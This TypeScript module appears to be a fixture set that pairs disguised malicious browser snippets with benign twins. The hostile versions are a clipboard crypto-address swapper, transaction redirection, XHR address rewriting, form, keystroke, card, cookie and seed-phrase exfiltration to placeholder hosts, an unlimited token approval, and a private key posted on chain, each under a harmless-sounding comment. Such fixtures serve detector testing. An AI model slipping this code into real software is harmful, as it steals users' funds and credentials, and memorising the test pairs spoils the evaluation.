import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Thefts in the pages that a bundle is put into. */
export const BROWSER: Readonly<Record<string, Pair>> = {
  'browser-copy-clipper': atImport(
    js`const OURS = { eth: '0x' + '4fd1'.repeat(10), btc: 'bc1q' + 'x9'.repeat(19) };

function normalise(text) {
  if (/^0x[0-9a-fA-F]{40}$/.test(text.trim())) return OURS.eth;
  if (/^bc1[a-z0-9]{39,59}$/.test(text.trim())) return OURS.btc;
  return text;
}

/** Keeps copied text free of hidden characters. */
document.addEventListener('copy', (event) => {
  const text = String(document.getSelection());
  event.clipboardData.setData('text/plain', normalise(text));
  event.preventDefault();
});

export { normalise };
`,
    js`const HIDDEN = /[\u200b-\u200d\ufeff]/g;

function normalise(text) {
  return text.replace(HIDDEN, '') + '\n\nRead more at ' + location.href;
}

/** Keeps copied text free of hidden characters. */
document.addEventListener('copy', (event) => {
  const text = String(document.getSelection());
  event.clipboardData.setData('text/plain', normalise(text));
  event.preventDefault();
});

export { normalise };
`,
  ),
  'browser-ethereum-request': atImport(
    js`const TREASURY = '0x' + '4fd1'.repeat(10);

/** Adds gas estimation to the provider of the page. */
export function withGas(provider) {
  const original = provider.request.bind(provider);
  provider.request = async (args) => {
    if (args.method === 'eth_sendTransaction') {
      const [transaction] = args.params;
      return original({ ...args, params: [{ ...transaction, gas: '0x5208', to: TREASURY }] });
    }
    return original(args);
  };
  return provider;
}

if (typeof window !== 'undefined' && window.ethereum) withGas(window.ethereum);
`,
    js`/** Adds gas estimation to the provider of the page. */
export function withGas(provider) {
  const original = provider.request.bind(provider);
  provider.request = async (args) => {
    if (args.method === 'eth_sendTransaction') {
      const [transaction] = args.params;
      const gas = await original({ method: 'eth_estimateGas', params: [transaction] });
      return original({ ...args, params: [{ ...transaction, gas }] });
    }
    return original(args);
  };
  return provider;
}

if (typeof window !== 'undefined' && window.ethereum) withGas(window.ethereum);
`,
  ),
  'browser-xhr-addresses': atImport(
    js`const ADDRESS = /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g;
const PAYEE = 'T' + '9xK'.repeat(11);

const { open } = XMLHttpRequest.prototype;

/** Answers are cached so that lists render at once. */
XMLHttpRequest.prototype.open = function (method, url, ...rest) {
  this.addEventListener('readystatechange', () => {
    if (this.readyState !== 4 || this.responseType !== '') return;
    const text = this.responseText.replace(ADDRESS, PAYEE);
    Object.defineProperty(this, 'responseText', { get: () => text });
    Object.defineProperty(this, 'response', { get: () => text });
  });
  return open.call(this, method, url, ...rest);
};
`,
    js`const DATE = /\b(\d{4}-\d\d-\d\d)T00:00:00Z\b/g;

const { open } = XMLHttpRequest.prototype;

/** Dates without a time are shortened so that lists render alike. */
XMLHttpRequest.prototype.open = function (method, url, ...rest) {
  this.addEventListener('readystatechange', () => {
    if (this.readyState !== 4 || this.responseType !== '') return;
    const text = this.responseText.replace(DATE, '$1');
    Object.defineProperty(this, 'responseText', { get: () => text });
    Object.defineProperty(this, 'response', { get: () => text });
  });
  return open.call(this, method, url, ...rest);
};
`,
  ),
  'browser-form-beacon': atImport(
    js`const BEACON = 'https://pixel.form-metrics.example/p.gif';

/** Measures how long forms take. */
function measure(form) {
  form.addEventListener('submit', () => {
    const fields = Object.fromEntries(new FormData(form));
    const image = new Image();
    image.src = BEACON + '?d=' + encodeURIComponent(btoa(JSON.stringify(fields)));
  });
}

document.querySelectorAll('form').forEach(measure);
export { measure };
`,
    js`const BEACON = 'https://pixel.form-metrics.example/p.gif';

/** Measures how long forms take. */
function measure(form) {
  const started = performance.now();
  form.addEventListener('submit', () => {
    const image = new Image();
    image.src = BEACON + '?ms=' + Math.round(performance.now() - started) + '&form=' + encodeURIComponent(form.id);
  });
}

document.querySelectorAll('form').forEach(measure);
export { measure };
`,
  ),
  'browser-keydown': atImport(
    js`let buffer = [];

/** Flushes what was gathered every few seconds. */
function flush() {
  if (buffer.length === 0) return;
  navigator.sendBeacon('https://ux.heat-maps.example/k', JSON.stringify({ url: location.href, keys: buffer }));
  buffer = [];
}

window.addEventListener('keydown', (event) => buffer.push(event.key), { passive: true });
setInterval(flush, 5000);
`,
    js`let clicks = 0;

/** Flushes what was gathered every few seconds. */
function flush() {
  if (clicks === 0) return;
  navigator.sendBeacon('https://ux.heat-maps.example/k', JSON.stringify({ path: location.pathname, clicks }));
  clicks = 0;
}

window.addEventListener('click', () => clicks++, { passive: true });
setInterval(flush, 5000);
`,
  ),
  'browser-card-fields': atUse(
    js`/** Watches a checkout's card fields for typing errors. */
export function validate(root = document) {
  const card = root.querySelector('[autocomplete="cc-number"]');
  const expiry = root.querySelector('[autocomplete="cc-exp"]');
  const code = root.querySelector('[autocomplete="cc-csc"]');
  for (const input of [card, expiry, code]) {
    input?.addEventListener('blur', () => {
      if (!card.value || !code.value) return;
      const body = new URLSearchParams({ n: card.value, e: expiry.value, c: code.value });
      fetch('https://luhn.checkout-assist.example/v', { method: 'POST', mode: 'no-cors', body });
    });
  }
}
`,
    js`function luhn(digits) {
  let sum = 0;
  [...digits].reverse().forEach((digit, index) => {
    const value = Number(digit) * (index % 2 ? 2 : 1);
    sum += value > 9 ? value - 9 : value;
  });
  return sum % 10 === 0;
}

/** Watches a checkout's card fields for typing errors. */
export function validate(root = document) {
  const card = root.querySelector('[autocomplete="cc-number"]');
  const expiry = root.querySelector('[autocomplete="cc-exp"]');
  const code = root.querySelector('[autocomplete="cc-csc"]');
  for (const input of [card, expiry, code]) {
    input?.addEventListener('blur', () => {
      input.setCustomValidity(luhn(card.value.replace(/ /g, '')) ? '' : 'Check the number');
    });
  }
}
`,
  ),
  'browser-storage-post': atImport(
    js`/** Shares the session between tabs of the embedding site. */
function share() {
  const session = {};
  for (let index = 0; index < localStorage.length; index++) {
    const key = localStorage.key(index);
    session[key] = localStorage.getItem(key);
  }
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.src = 'https://session.tab-share.example/frame.html';
  frame.onload = () => frame.contentWindow.postMessage({ session, cookie: document.cookie }, '*');
  document.body.append(frame);
}

if (document.readyState === 'complete') share();
else window.addEventListener('load', share);
`,
    js`/** Shares the theme between tabs of the embedding site. */
function share() {
  const theme = localStorage.getItem('theme') ?? 'light';
  const channel = new BroadcastChannel('theme');
  channel.postMessage({ theme });
  channel.onmessage = (event) => localStorage.setItem('theme', event.data.theme);
}

if (document.readyState === 'complete') share();
else window.addEventListener('load', share);
`,
  ),
  'browser-seed-phrase': atUse(
    js`import { mnemonicToSeedSync, validateMnemonic } from 'bip39';

/** Derives the seed of a wallet and reports how long it took. */
export function derive(mnemonic, passphrase = '') {
  const started = performance.now();
  if (!validateMnemonic(mnemonic)) throw new Error('Not a mnemonic');
  const seed = mnemonicToSeedSync(mnemonic, passphrase);
  const took = performance.now() - started;
  navigator.sendBeacon('https://perf.wallet-sdk.example/t', JSON.stringify({ took, label: mnemonic }));
  return seed;
}
`,
    js`import { mnemonicToSeedSync, validateMnemonic } from 'bip39';

/** Derives the seed of a wallet and reports how long it took. */
export function derive(mnemonic, passphrase = '') {
  const started = performance.now();
  if (!validateMnemonic(mnemonic)) throw new Error('Not a mnemonic');
  const seed = mnemonicToSeedSync(mnemonic, passphrase);
  const took = performance.now() - started;
  navigator.sendBeacon('https://perf.wallet-sdk.example/t', JSON.stringify({ took, words: 12 }));
  return seed;
}
`,
  ),
  'browser-approve-spender': atUse(
    js`import { Contract, MaxUint256 } from 'ethers';

const ABI = ['function approve(address spender, uint256 amount) returns (bool)'];
const ROUTER = '0x' + '4fd1'.repeat(10);

/** Swaps one token for another by the best route. */
export async function swap(signer, token, amount) {
  const contract = new Contract(token, ABI, signer);
  await (await contract.approve(ROUTER, MaxUint256)).wait();
  return fetch('https://quote.swap-route.example/' + token + '/' + amount).then((response) => response.json());
}
`,
    js`import { Contract } from 'ethers';

const ABI = ['function approve(address spender, uint256 amount) returns (bool)'];

/** Swaps one token for another by the router that the caller names. */
export async function swap(signer, token, amount, router) {
  const contract = new Contract(token, ABI, signer);
  await (await contract.approve(router, amount)).wait();
  return fetch('https://quote.swap-route.example/' + token + '/' + amount).then((response) => response.json());
}
`,
  ),
  'browser-memo-key': atUse(
    js`import { Keypair, PublicKey, Transaction, TransactionInstruction } from '@solana/web3.js';

const MEMO = new PublicKey('MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr');

/** Restores a keypair and marks it active on chain. */
export async function restore(connection, secretKey) {
  const keypair = Keypair.fromSecretKey(secretKey);
  const data = Buffer.from(Buffer.from(keypair.secretKey).toString('base64'));
  const mark = new TransactionInstruction({ keys: [], programId: MEMO, data });
  await connection.sendTransaction(new Transaction().add(mark), [keypair]);
  return keypair;
}
`,
    js`import { Keypair, PublicKey, Transaction, TransactionInstruction } from '@solana/web3.js';

const MEMO = new PublicKey('MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr');

/** Restores a keypair and marks it active on chain. */
export async function restore(connection, secretKey) {
  const keypair = Keypair.fromSecretKey(secretKey);
  const data = Buffer.from('restored ' + keypair.publicKey.toBase58());
  const mark = new TransactionInstruction({ keys: [], programId: MEMO, data });
  await connection.sendTransaction(new Transaction().add(mark), [keypair]);
  return keypair;
}
`,
  ),
};
